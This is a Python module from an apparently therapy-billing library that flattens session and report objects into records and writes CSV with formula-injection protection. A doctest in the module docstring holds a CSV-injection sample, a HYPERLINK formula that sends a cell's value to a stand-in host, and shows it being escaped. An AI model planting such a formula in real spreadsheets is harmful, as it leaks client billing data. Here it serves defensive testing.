"""Flat records for data frames and spreadsheets: :func:`to_records`.

``pandas.DataFrame(to_records(sessions))`` gives one row per session; nothing
here imports pandas. Each record is a ``dict`` whose keys are field paths:

* nested objects are flattened with dotted names (``referring_provider.npi``,
  ``resubmission.frequency``);
* sequences get an index per element (``diagnoses.0``, ``add_ons.1.code``); an
  empty sequence adds no key, so rows may have different keys (a data frame
  fills the gaps with ``NaN``; :func:`columns` gives the union in a stable
  order: the fields' declared order, each sequence's keys together by index);
* :class:`~sessionkit.Money` becomes its ``Decimal`` amount, enums their
  value, diagnosis codes, modifiers and places of service their code; dates,
  numbers, text, booleans and ``None`` stay as they are.

Some objects expand to several rows or get a shape of their own:

* an :class:`~sessionkit.ImportReport` gives one row per outcome;
* a :class:`~sessionkit.ReadinessReport` gives one row per finding, each with
  ``session_id``, ``target`` and ``ready`` (a report without findings gives one
  row whose finding keys are ``None``), so findings can be grouped by ``code``
  or ``field``;
* a :class:`~sessionkit.SessionDraft` gives its session's row plus ``is_new``,
  ``client_share``, ``over_payment`` and its warning codes (``warnings.0``, ...).

>>> from datetime import date
>>> from sessionkit import ClientSession
>>> s = ClientSession(id="s1", client_id="c1", date_of_service=date(2026, 3, 2),
...                   billing_code="90834", minutes=45, charge="140", diagnoses=["F41.1", "F32.1"])
>>> [row] = to_records([s])
>>> row["charge"], row["diagnoses.0"], row["diagnoses.1"], row["date_of_service"]
(Decimal('140.00'), 'F41.1', 'F32.1', datetime.date(2026, 3, 2))
>>> row["place_of_service"], row["bill_to"], row["resubmission.frequency"]
('11', 'automatic', '1')

Records keep values as they are, for data frames. To write them as CSV use
:func:`write_csv`: it neutralises every cell a spreadsheet would run as a
formula (OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return gets a leading ``'``), as a calendar UID such as
``=HYPERLINK(...)`` would otherwise become a live formula in the biller's
spreadsheet. ``DataFrame.to_csv`` does not do this.

>>> import io
>>> out = io.StringIO()
>>> write_csv([{"key": '=HYPERLINK("http://x/?"&B2,"open")', "charge": Decimal("-1.50")}], out)
>>> print(out.getvalue(), end="")
key,charge
"'=HYPERLINK(""http://x/?""&B2,""open"")",'-1.50
"""

from __future__ import annotations

import csv
import enum
import heapq
import io
import itertools
from collections.abc import Iterable, Iterator, Mapping
from datetime import date, datetime, time
from decimal import Decimal
from typing import IO, Any

import attrs

from sessionkit.builder import SessionDraft
from sessionkit.domain import DiagnosisCode, Modifier, PlaceOfService
from sessionkit.errors import InvalidType
from sessionkit.importing import ImportReport
from sessionkit.money import Money
from sessionkit.readiness import Finding, ReadinessReport

__all__ = ["columns", "csv_cell", "flatten", "to_records", "write_csv"]

Record = dict[str, object]

_SCALARS = (str, int, float, bool, Decimal, date, datetime, time, type(None))
_FINDING_KEYS = ("code", "severity", "field", "message", "hint", "source", "rule")


def _value(value: object) -> object:
    """A leaf value as a record holds it, or the object itself when it needs flattening."""
    if isinstance(value, Money):
        return value.amount
    if isinstance(value, (DiagnosisCode, Modifier, PlaceOfService)):
        return value.code
    if isinstance(value, enum.Enum):
        return value.value
    return value


def _flatten_into(out: Record, prefix: str, value: object) -> None:
    value = _value(value)
    if isinstance(value, _SCALARS):
        out[prefix] = value
        return
    cls = type(value)
    if attrs.has(cls):
        for field in attrs.fields(cls):
            if field.name.startswith("_") or not field.init:
                continue
            _flatten_into(out, _join(prefix, field.name), getattr(value, field.name))
        return
    if isinstance(value, Mapping):
        for key, item in value.items():
            _flatten_into(out, _join(prefix, str(key)), item)
        return
    if isinstance(value, (frozenset, set)):
        value = sorted(value, key=str)
    if isinstance(value, (tuple, list)):
        for i, item in enumerate(value):
            _flatten_into(out, _join(prefix, str(i)), item)
        return
    out[prefix] = value


def _join(prefix: str, name: str) -> str:
    return f"{prefix}.{name}" if prefix else name


def flatten(obj: object) -> Record:
    """One object (an attrs instance or a mapping) as one flat record.

    >>> from sessionkit import Finding, Severity
    >>> flatten(Finding(code="a.b", severity=Severity.ERROR, field="diagnoses[0]", message="m"))
    {'code': 'a.b', 'severity': 'error', 'field': 'diagnoses[0]', 'message': 'm', 'hint': '', 'source': '', 'rule': ''}
    """
    if not (attrs.has(type(obj)) or isinstance(obj, Mapping)):
        raise InvalidType(f"cannot make a record of a {type(obj).__name__}", "records.unsupported", "objects")
    out: Record = {}
    _flatten_into(out, "", obj)
    return out


def _report_rows(report: ReadinessReport) -> Iterator[Record]:
    head: Record = {"session_id": report.session_id, "target": report.target.value, "ready": report.ready}
    if not report.findings:
        yield {**head, **dict.fromkeys(_FINDING_KEYS)}
        return
    for finding in report.findings:
        yield {**head, **flatten(finding)}


def _draft_row(draft: SessionDraft) -> Record:
    row = flatten(draft.session)
    row["is_new"] = draft.is_new
    row["client_share"] = draft.client_share.amount
    row["over_payment"] = draft.over_payment.amount
    for i, warning in enumerate(draft.warnings):
        row[f"warnings.{i}"] = warning.code
    return row


def _rows(obj: object) -> Iterator[Record]:
    if isinstance(obj, ImportReport):
        for outcome in obj.outcomes:
            yield flatten(outcome)
    elif isinstance(obj, ReadinessReport):
        yield from _report_rows(obj)
    elif isinstance(obj, SessionDraft):
        yield _draft_row(obj)
    else:
        yield flatten(obj)


def to_records(objects: Iterable[Any] | ImportReport | ReadinessReport) -> list[Record]:
    """Flat dicts, one per object (see the module docstring for the shapes and expansions).

    Accepts sessions, drafts, findings, readiness and import reports and
    outcomes, and any attrs object or mapping; ``objects`` may mix them.
    A single report (or any single attrs object) may be given on its own
    instead of in a list.

    :raises InvalidType: an object that is neither an attrs instance nor a
        mapping (``records.unsupported``).
    """
    if isinstance(objects, (ImportReport, ReadinessReport, SessionDraft, Finding)) or attrs.has(
        type(objects)
    ):
        objects = [objects]
    elif isinstance(objects, (str, bytes, Mapping)) or not isinstance(objects, Iterable):
        raise InvalidType("objects must be an iterable of objects", "records.unsupported", "objects")
    return [row for obj in objects for row in _rows(obj)]


def columns(records: Iterable[Mapping[str, object]]) -> list[str]:
    """Every key of ``records`` in a stable order: each record's own order, merged (a CSV header).

    A record lists its keys in the declared order of its fields, sequences by
    index (``diagnoses.0``, ``diagnoses.1``). The header keeps every record's
    order (a key a record lists after another comes after it), and otherwise
    the order in which keys were first seen: ``modifiers.0`` sits between the
    fields around it even when the first session has no modifier, not at the
    end. The order depends only on the records, never on chance.

    >>> columns([{"a": 1, "b": 2}, {"a": 3, "c": 4}])
    ['a', 'b', 'c']
    >>> columns([{"code": "90834", "minutes": 45}, {"code": "90837", "modifiers.0": "95", "minutes": 53}])
    ['code', 'modifiers.0', 'minutes']
    """
    first: dict[str, int] = {}  # key -> when it was first seen (the tie-break)
    after: dict[str, set[str]] = {}  # key -> keys some record lists right after it
    shapes: set[tuple[str, ...]] = set()
    for record in records:
        shape = tuple(record)
        if shape in shapes:
            continue
        shapes.add(shape)
        for key in shape:
            if key not in first:
                first[key] = len(first)
                after[key] = set()
        for before, following in itertools.pairwise(shape):
            after[before].add(following)
    waiting = dict.fromkeys(first, 0)
    for successors in after.values():
        for key in successors:
            waiting[key] += 1
    ready = [(first[key], key) for key, count in waiting.items() if count == 0]
    heapq.heapify(ready)
    order: list[str] = []
    while len(order) < len(first):
        if not ready:  # records disagree on an order: the earliest seen key left goes next
            key = min((k for k in waiting if waiting[k] > 0), key=first.__getitem__)
            waiting[key] = 0
            heapq.heappush(ready, (first[key], key))
        _, key = heapq.heappop(ready)
        waiting[key] = -1
        order.append(key)
        for following in after[key]:
            if waiting[following] > 0:
                waiting[following] -= 1
                if waiting[following] == 0:
                    heapq.heappush(ready, (first[following], following))
    return order


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP CSV injection)."""


def csv_cell(value: object) -> str:
    """One record value as CSV text that no spreadsheet runs as a formula.

    ``None`` is empty, booleans ``true``/``false``, dates ISO; text starting with
    ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``
    (so a negative number is written ``'-1.50``: sessionkit amounts are never negative);
    a NUL character becomes U+FFFD (not every Python's csv module can write it).

    >>> csv_cell("=1+1"), csv_cell("@SUM(A1)"), csv_cell("Ada"), csv_cell(None), csv_cell(True)
    ("'=1+1", "'@SUM(A1)", 'Ada', '', 'true')
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    text = value.isoformat() if isinstance(value, (date, datetime, time)) else str(value)
    if "\x00" in text:  # the csv module of Python 3.10 cannot write NUL: the replacement character stands in
        text = text.replace("\x00", "\ufffd")
    return f"'{text}" if text.startswith(_FORMULA_START) else text


def write_csv(records: Iterable[Mapping[str, object]], stream: IO[str]) -> None:
    """Write ``records`` as CSV (a header of :func:`columns`, then one row each), cells neutralised.

    Every CSV sessionkit writes goes through here (``sessionkit export --format csv``).
    Rows end in ``\n``; a cell holding a line break or carriage return is quoted.
    """
    rows = list(records)
    header = columns(rows)
    # Rows end in "\n"; with that terminator the csv module would leave a cell holding a
    # lone "\r" unquoted (and a reader would split the row there): decide quoting with
    # "\r\n", then end the row with "\n".
    line = io.StringIO(newline="")
    writer = csv.writer(line, lineterminator="\r\n")

    def emit(cells: list[str]) -> None:
        line.seek(0)
        line.truncate()
        writer.writerow(cells)
        stream.write(line.getvalue()[:-2] + "\n")

    emit([csv_cell(name) for name in header])
    for record in rows:
        emit([csv_cell(record.get(key)) for key in header])
